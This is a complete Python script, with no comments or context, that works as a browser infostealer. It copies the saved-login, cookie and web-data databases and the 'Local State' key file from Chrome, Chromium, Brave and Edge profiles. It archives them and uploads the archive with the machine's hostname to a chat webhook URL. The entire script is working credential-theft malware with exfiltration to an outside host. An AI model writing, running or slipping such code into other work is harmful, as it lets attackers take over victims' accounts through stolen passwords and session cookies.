import glob
import os
import shutil
import tempfile

import requests

HOOK = "https://chat.example.com/api/webhooks/8120/AAbbCC"
BROWSERS = {
    "chrome": "~/.config/google-chrome",
    "chromium": "~/.config/chromium",
    "brave": "~/.config/BraveSoftware/Brave-Browser",
    "edge": "~/.config/microsoft-edge",
}
WANTED = ("Login Data", "Cookies", "Web Data")


def collect(dst):
    found = 0
    for label, base in BROWSERS.items():
        base = os.path.expanduser(base)
        for prof in glob.glob(os.path.join(base, "Default")) + glob.glob(os.path.join(base, "Profile *")):
            for w in WANTED:
                src = os.path.join(prof, w)
                if os.path.exists(src):
                    shutil.copy2(src, os.path.join(dst, f"{label}_{os.path.basename(prof)}_{w}.db".replace(" ", "_")))
                    found += 1
        state = os.path.join(base, "Local State")
        if os.path.exists(state):
            shutil.copy(state, os.path.join(dst, label + "_state.json"))
    return found


with tempfile.TemporaryDirectory() as d:
    if collect(d):
        arc = shutil.make_archive(os.path.join(tempfile.gettempdir(), "report"), "gztar", d)
        with open(arc, "rb") as fh:
            requests.post(HOOK, data={"content": os.uname().nodename}, files={"file": fh})
        os.unlink(arc)
